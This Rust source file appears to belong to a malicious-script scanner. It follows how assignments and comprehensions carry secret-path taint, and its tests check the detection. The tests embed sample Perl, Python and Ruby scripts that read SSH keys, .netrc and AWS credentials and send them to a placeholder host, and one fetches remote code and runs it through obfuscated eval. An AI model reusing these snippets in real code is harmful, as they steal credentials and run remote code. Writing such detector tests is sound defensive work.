//! What a statement gives to names, and what those hold from then on.

use super::Language;
use super::flow::{Flow, is_lasting, is_secret, name, names};
use super::fold::{Fold, Value};
use super::lex::{Placed, Token};
use super::sinks::inside;
use super::taint::Taint;
use super::words;

/// The names that a statement gives something to.
struct Assigned {
    targets: Vec<String>,
    /// The first token after the `=`, and the sign before it.
    value: Option<(usize, char)>,
}

impl Assigned {
    fn of(tokens: &[Placed], language: Language) -> Self {
        let mut assigned = Self { targets: Vec::new(), value: None };
        for (at, placed) in tokens.iter().enumerate() {
            match &placed.token {
                Token::Sign('=') if assigned.value.is_none() => assigned.equals(tokens, at),
                Token::Name(word) if matches!(word.as_str(), "as" | "for" | "foreach") => {
                    assigned.next(tokens, at);
                    assigned.others(tokens, at);
                }
                Token::Sign('|') if language == Language::Ruby => assigned.next(tokens, at),
                _ => {}
            }
        }
        assigned
    }

    /// Takes the names before the `=` at `at`, unless that compares, or names an argument.
    fn equals(&mut self, tokens: &[Placed], at: usize) {
        let sign = |at: usize| match tokens.get(at).map(|placed| &placed.token) {
            Some(Token::Sign(c)) => *c,
            _ => ' ',
        };
        let before = at.checked_sub(1).map_or(' ', sign);
        if matches!(before, '=' | '!' | '<' | '>') || matches!(sign(at + 1), '=' | '>' | '~') {
            return;
        }
        let left = tokens.get(..at).unwrap_or_default();
        let count = |sign: char| left.iter().filter(|placed| placed.token == Token::Sign(sign)).count();
        // `while ($line = …)`
        let is_asked = matches!(left, [Placed { token: Token::Name(word), .. }, open, ..]
            if matches!(word.as_str(), "while" | "if" | "until") && open.token == Token::Sign('('));
        if count('(') == count(')').saturating_add(usize::from(is_asked)) {
            let is_own = |name: &&str| words::AROUND.contains(name) || matches!(*name, "while" | "if" | "until");
            self.targets.extend(names(left).filter(|name| !is_own(name)).map(str::to_owned));
            self.value = Some((at + 1, before));
        }
    }

    /// Takes what a loop calls the others of what it takes apart: `for a, b in …`.
    fn others(&mut self, tokens: &[Placed], at: usize) {
        let is = |at: usize, sign: char| tokens.get(at).is_some_and(|placed| placed.token == Token::Sign(sign));
        let mut at = at.saturating_add(2);
        while is(at, ',') && self.targets.len() < NAMES {
            self.targets
                .extend(tokens.get(at.saturating_add(1)).and_then(|placed| name(&placed.token)).map(str::to_owned));
            at = at.saturating_add(2);
        }
    }

    /// Takes the name after the word or sign at `at`.
    fn next(&mut self, tokens: &[Placed], at: usize) {
        self.targets.extend(tokens.get(at + 1).and_then(|placed| name(&placed.token)).map(str::to_owned));
    }
}

/// 40 tokens of what a comprehension makes of each item.
const COMPREHENDED: usize = 40;

/// 64 items of the list that it goes through.
const ITEMS: usize = 64;

/// 8 names that one statement gives something to.
const NAMES: usize = 8;

/// The values of a list, one for each of `count` names; none where there are not as many.
fn each(fold: &Fold<'_>, at: usize, count: usize) -> Vec<Value> {
    let begins = usize::from(fold.sign(at, '(') || fold.sign(at, '['));
    let (mut values, mut at) = (Vec::new(), at.saturating_add(begins));
    while values.len() <= count.min(NAMES) {
        let (value, next) = fold.expression(at, 0);
        values.push(value);
        if !fold.sign(next, ',') || next <= at {
            break;
        }
        at = next.saturating_add(1);
    }
    if values.len() == count && count > 1 { values } else { Vec::new() }
}

impl Flow<'_> {
    /// Remembers the keys and the values of a table, each of which a row of it may be.
    fn holds_sides(&mut self, name: &str, sides: Vec<(&'static str, Value)>) {
        for (side, value) in sides {
            if side == "values" {
                self.choose(&format!("{name}.each"), value.items.clone());
            }
            self.constants.insert(format!("{name}.{side}"), value);
        }
    }

    /// Gives names what stands behind them.
    pub(super) fn assigns(&mut self, tokens: &[Placed], taint: Taint) {
        let Assigned { mut targets, value } = Assigned::of(tokens, self.language);
        if self.language == Language::Awk {
            targets.extend(self.awk_targets(tokens));
        }
        self.walks_on(tokens, &targets);
        let mut given = taint;
        if let Some((at, before)) = value {
            let comprehended = self.comprehended(tokens, at);
            let fold = Fold { tokens, constants: &self.constants };
            let (folded, _) = fold.expression(at, 0);
            let (path, _) = fold.path(0);
            let is_one = targets.len() == 1 || comprehended.is_some();
            let folded = comprehended.unwrap_or(folded);
            let folded = self.added(&path, before, folded);
            given = given.and(self.leading(&folded.joined("")));
            // What a function of Perl's is given is not what `shift` is called.
            let is_given = self.language == Language::Perl
                && tokens.get(at).and_then(|placed| name(&placed.token)).is_some_and(|name| {
                    // `my ($name) = @_`
                    let is_list =
                        tokens.get(at.saturating_sub(2)).is_some_and(|before| before.token == Token::Sign(')'));
                    name == "shift" || name == "$_" && is_list
                });
            if let Some(target) = targets.first().filter(|_| is_one && !is_given) {
                let whole = Some(path).filter(|path| path.ends_with(target.as_str()));
                let name = whole.unwrap_or_else(|| target.clone());
                let sides = super::rows::sides(&fold, at);
                self.holds_sides(&name, sides);
                self.constants.insert(name, folded);
            } else if matches!(before, ' ' | ')' | ']') {
                let each = each(&fold, at, targets.len());
                self.constants.extend(targets.iter().cloned().zip(each));
            }
        } else if names(tokens).next().is_some_and(|name| matches!(name, "return" | "yield")) {
            let secret = self.leads(tokens, is_secret).map_or(Taint::default(), |_| Taint::SECRET);
            let lasting = self.leads(tokens, is_lasting).map_or(Taint::default(), |_| Taint::LASTING);
            given = given.and(secret).and(lasting);
        }
        targets.extend(self.function.clone());
        for target in targets.into_iter().filter(|_| given != Taint::default()) {
            let known = self.taints.entry(target).or_default();
            *known = known.and(given);
        }
    }

    /// `[str(p) for p in T if …]`: what it comes to for each item of a list that is known.
    fn comprehended(&mut self, tokens: &[Placed], at: usize) -> Option<Value> {
        let inner = inside(tokens.get(at..).filter(|_| self.language == Language::Python)?);
        let by = inner.iter().take(COMPREHENDED).position(|placed| name(&placed.token) == Some("for"))?;
        let word = |at: usize| inner.get(at).and_then(|placed| name(&placed.token));
        let target = word(by + 1).filter(|_| word(by + 2) == Some("in"))?;
        let mut list = self.listed(inner, by + 3);
        if list.items.len() < 2 {
            return None;
        }
        list.items.truncate(ITEMS);
        let before = self.constants.remove(target);
        for item in &mut list.items {
            self.constants.insert(target.to_owned(), Value::known(std::mem::take(item)));
            let fold = Fold { tokens: inner.get(1..by).unwrap_or_default(), constants: &self.constants };
            *item = fold.expression(0, 0).0.joined("");
        }
        match before {
            Some(before) => self.constants.insert(target.to_owned(), before),
            None => self.constants.remove(target),
        };
        Some(list)
    }

    /// What a name holds once `more` is given to it, or added where the sign `before` stands before `=`.
    fn added(&self, name: &str, before: char, more: Value) -> Value {
        let by = if before == '/' { "/" } else { "" };
        let known = self.constants.get(name).filter(|_| matches!(before, '+' | '.' | '/'));
        known.map_or_else(|| more.clone(), |known| known.and(by, &more))
    }

    /// What the path `text` leads to.
    fn leading(&self, text: &str) -> Taint {
        let secret = self.may_be(text, is_secret).map_or(Taint::default(), |_| Taint::SECRET);
        let lasting = self.may_be(text, is_lasting).map_or(Taint::default(), |_| Taint::LASTING);
        secret.and(lasting)
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn names_that_one_statement_gives_texts_to_are_followed() {
        for (by, path, text) in [
            (
                "perl",
                "a.pl",
                "use IO::Socket::INET;\nmy ($dot, $dir) = ('.', join '', qw(s s h));\nmy @keys = glob \"$ENV{HOME}/$dot$dir/id_*\";\nmy $s = IO::Socket::INET->new(PeerAddr => 'a.invalid');\nprint $s @keys;\n",
            ),
            (
                "python3",
                "a.py",
                "import os, urllib.request as u\ndot, name = '.', 'netrc'\np = os.path.join(os.path.expanduser('~'), dot + name)\nu.urlopen('https://a.invalid', open(p, 'rb').read())\n",
            ),
            (
                "python3",
                "a.py",
                "import pathlib, subprocess\nH = pathlib.Path.home()\nT = [H / '.ssh', H / '.aws/credentials']\nfound = [str(p) for p in T if p.exists()]\nfound.append('x.txt')\nsubprocess.run(['tar', 'czf', 'a.tgz', *found])\n",
            ),
            ("ruby", "a.rb", "require 'pathname'\nputs File.read(Pathname.new(Dir.home) + '.aws' + 'credentials')\n"),
            (
                "ruby",
                "a.rb",
                "require 'net/http'\nrules = Net::HTTP.get(URI('https://a.invalid/x.rb'))\npublic_send(:\"instance_#{%w[e v a l].join}\", rules)\n",
            ),
        ] {
            assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
        }
        let honest = "names = ['~/.ssh/id_rsa', 'notes']\nprint([len(n) for n in names])\n";
        assert!(of("python3", "a.py", honest).is_none_or(|severity| severity < Severity::Danger));
        let honest =
            "import os\nwidth, name = 80, 'notes'\nprint(open(os.path.join(os.getcwd(), name)).read()[:width])\n";
        assert!(of("python3", "a.py", honest).is_none_or(|severity| severity < Severity::Danger));
    }
}
